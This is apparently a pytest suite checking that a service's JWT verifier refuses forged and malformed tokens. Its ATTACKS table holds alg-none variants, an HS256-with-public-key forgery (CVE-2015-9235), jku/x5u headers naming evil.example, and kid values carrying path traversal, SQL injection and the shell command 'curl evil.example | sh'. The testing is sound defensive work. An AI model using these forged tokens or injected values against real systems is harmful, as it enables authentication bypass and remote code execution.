"""A token counts if its issuer signed it, for us, and for now. Each attack of the books is tried."""

import json
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.tollway.identity.issuer import CLAIMS, NOW, OURS, URL, ec_key, jwk, keys, part, rsa_key, signed
from tollway.identity.keys import KeySet
from tollway.identity.token import Token, read
from tollway.identity.verify import LEEWAY_SECONDS, Issuer, Unverified, Verified, verified

EVIL = rsa_key("evil")
NO_KEY = "it names no key that its issuer signs with"
NO_ALGORITHM = "its algorithm is none of RS256, ES256"
FORGED = "its signature is not its issuer's"


def judged(
    text: str, issuer: Issuer = OURS, known: KeySet | None = None, now: float = NOW
) -> Verified | Unverified:
    """What becomes of a token."""
    token = read(text)
    assert isinstance(token, Token), token
    return verified(token, issuer, known or keys(), now)


def why(text: str, **how: Any) -> str:
    """Why a token is not taken."""
    found = judged(text, **how)
    assert isinstance(found, Unverified)
    return found.why


def but(**changes: object) -> dict[str, object]:
    """The claims with some of them changed, or, if None, without."""
    said = {**CLAIMS, **changes}
    return {name: value for name, value in said.items() if value is not None}


@pytest.mark.parametrize(
    "text",
    [signed(), signed(key=ec_key("e"), algorithm="ES256", header={"kid": "e"}), signed(header={})],
    ids=["RS256", "ES256", "no kid"],
)
def test_a_token_of_the_issuers_is_taken(text: str) -> None:
    found = judged(text)

    assert isinstance(found, Verified)
    assert found.claims["email"] == "ann@example.com"
    assert found.expires == NOW + 600 + LEEWAY_SECONDS
    assert "ann" not in repr(found)


def test_one_of_several_audiences_is_enough() -> None:
    assert isinstance(judged(signed(but(aud=["other", "tollway"]))), Verified)
    both = Issuer(issuer=URL, audiences=("a", "tollway"))
    assert isinstance(judged(signed(), issuer=both), Verified)


PEM = rsa_key("a").public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)


def hmac_of_the_public_key() -> str:
    """HS256 with the RSA key's PEM as its secret (CVE-2015-9235)."""
    import hashlib
    import hmac

    text = f"{part({'alg': 'HS256', 'kid': 'a'})}.{part(CLAIMS)}"
    return f"{text}.{part(hmac.new(PEM, text.encode(), hashlib.sha256).digest())}"


def without_signature(algorithm: object) -> str:
    return f"{part({'alg': algorithm, 'kid': 'a'})}.{part(CLAIMS)}."


def tampered() -> str:
    header, _, signature = signed().split(".")
    return f"{header}.{part(but(email='boss@example.com'))}.{signature}"


ATTACKS = {
    "alg none": (without_signature("none"), NO_ALGORITHM),
    "alg None": (without_signature("None"), NO_ALGORITHM),
    "alg nOnE": (without_signature("nOnE"), NO_ALGORITHM),
    "alg empty": (without_signature(""), NO_ALGORITHM),
    "alg a list": (without_signature(["RS256"]), NO_ALGORITHM),
    "no alg": (f"{part({})}.{part(CLAIMS)}.", NO_ALGORITHM),
    "RS256 without signature": (without_signature("RS256"), FORGED),
    "HS256 with the public key": (hmac_of_the_public_key(), NO_ALGORITHM),
    "RS512, which is not asked for": (signed(algorithm="RS512"), NO_ALGORITHM),
    "PS256, which is not asked for": (signed(algorithm="PS256"), NO_ALGORITHM),
    "another's key, our kid": (signed(key=EVIL), FORGED),
    "another's key, no kid": (signed(key=EVIL, header={}), FORGED),
    "another's key, embedded": (signed(key=EVIL, header={"jwk": jwk(EVIL, "evil"), "kid": "evil"}), NO_KEY),
    "another's key, embedded, our kid": (
        signed(key=EVIL, header={"jwk": jwk(EVIL, "a"), "kid": "a"}), FORGED
    ),
    "jku": (signed(key=EVIL, header={"jku": "https://evil.example/keys", "kid": "evil"}), NO_KEY),
    "x5u": (signed(key=EVIL, header={"x5u": "https://evil.example/cert", "kid": "a"}), FORGED),
    "x5c": (signed(key=EVIL, header={"x5c": ["MIIB"], "kid": "a"}), FORGED),
    "kid leads out of a folder": (signed(key=EVIL, header={"kid": "../../../../dev/null"}), NO_KEY),
    "kid injects SQL": (signed(key=EVIL, header={"kid": "' UNION SELECT 'x"}), NO_KEY),
    "kid injects a command": (signed(key=EVIL, header={"kid": "a; curl evil.example | sh"}), NO_KEY),
    "kid of the other key": (signed(header={"kid": "e"}), NO_KEY),
    "changed claims": (tampered(), FORGED),
    "a critical header that nobody knows": (signed(header={"kid": "a", "crit": ["x"], "x": 1}), FORGED),
    "another issuer": (signed(but(iss="https://evil.example/")), "it is another issuer's"),
    "the issuer without its slash": (signed(but(iss=URL[:-1])), "it is another issuer's"),
    "the issuer in a list": (signed(but(iss=[URL])), "it is another issuer's"),
    "no issuer": (signed(but(iss=None)), "it is another issuer's"),
    "another audience": (signed(but(aud="other")), "it is not for tollway"),
    "an audience that begins alike": (signed(but(aud="tollway2")), "it is not for tollway"),
    "no audience": (signed(but(aud=None)), "it is not for tollway"),
    "an empty audience": (signed(but(aud=[])), "it is not for tollway"),
    "audiences that are no texts": (signed(but(aud=[{"tollway": 1}, 7])), "it is not for tollway"),
    "expired": (signed(but(exp=NOW - LEEWAY_SECONDS)), "it has expired"),
    "no end": (signed(but(exp=None)), "it says of no time when it expires"),
    "an end that is a text": (signed(but(exp=str(NOW + 600))), "its times are no numbers"),
    "an end that is true": (signed(but(exp=True)), "its times are no numbers"),
    "an end beyond all numbers": (signed(but(exp=10**400)), "its times are no numbers"),
    "a begin beyond all numbers": (
        signed(json.dumps(CLAIMS)[:-1].encode() + b', "nbf": 1e999}'), "its times are no numbers"
    ),
    "not yet": (signed(but(nbf=NOW + LEEWAY_SECONDS + 1)), "it is not valid yet"),
    "made in the future": (signed(but(iat=NOW + LEEWAY_SECONDS + 1)), "it is not valid yet"),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_refused(attack: str) -> None:
    text, reason = ATTACKS[attack]

    assert why(text) == reason


@pytest.mark.parametrize(
    ("typ", "is_taken"),
    [
        ("JWT", True), ("jwt", True), ("at+jwt", True), ("application/AT+JWT", True), ("JOSE", True),
        ("logout+jwt", False), ("application/dpop+jwt", False), ("", False), (["JWT"], False), (None, False),
    ],
)  # fmt: skip
def test_what_an_issuer_signs_for_another_purpose_says_not_who_calls(typ: object, is_taken: bool) -> None:
    header = part({"alg": "RS256", "kid": "a", "typ": typ})
    signature = rsa_key("a").sign(f"{header}.{part(CLAIMS)}".encode(), PKCS1v15(), SHA256())

    found = judged(f"{header}.{part(CLAIMS)}.{part(signature)}")

    assert isinstance(found, Verified) is is_taken
    assert is_taken or (isinstance(found, Unverified) and "something else than a token" in found.why)


def test_a_key_that_is_missing_may_have_been_published_since() -> None:
    """No other refusal is reason to ask for the keys anew."""
    missing = judged(signed(header={"kid": "new"}))
    forged = judged(signed(key=EVIL))

    assert isinstance(missing, Unverified)
    assert isinstance(forged, Unverified)
    assert (missing.key_missing, forged.key_missing) == (True, False)


def test_clocks_may_differ_by_a_minute() -> None:
    """And not by more."""
    late = signed(but(exp=NOW - LEEWAY_SECONDS + 1, nbf=NOW + LEEWAY_SECONDS, iat=NOW + LEEWAY_SECONDS))

    assert isinstance(judged(late), Verified)
    assert why(late, now=NOW + 1) == "it has expired"
    assert why(late, now=NOW - 1) == "it is not valid yet"


def test_a_second_issuers_key_of_the_same_name_is_no_key_of_the_first() -> None:
    """Each issuer has its own set."""
    other = Issuer(issuer="https://other.example/", audiences=("tollway",))
    theirs = keys(jwk(EVIL, "a"))

    assert why(signed(key=EVIL)) == FORGED
    assert why(signed(key=EVIL), known=theirs, issuer=other) == "it is another issuer's"
    assert isinstance(judged(signed(but(iss=other.issuer), key=EVIL), issuer=other, known=theirs), Verified)


def test_an_operator_may_ask_for_other_algorithms() -> None:
    only = Issuer(issuer=URL, audiences=("tollway",), algorithms=("ES384",))
    key = ec_key("p", ec.SECP384R1)
    text = signed(key=key, algorithm="ES384", header={"kid": "p"})

    assert isinstance(judged(text, issuer=only, known=keys(jwk(key, "p"))), Verified)
    assert why(signed(), issuer=only) == "its algorithm is none of ES384"


def test_no_reason_quotes_the_token() -> None:
    """A log that does could be written by whoever sends one."""
    for text, _ in ATTACKS.values():
        said = why(text)
        assert "evil" not in said
        assert "ann" not in said
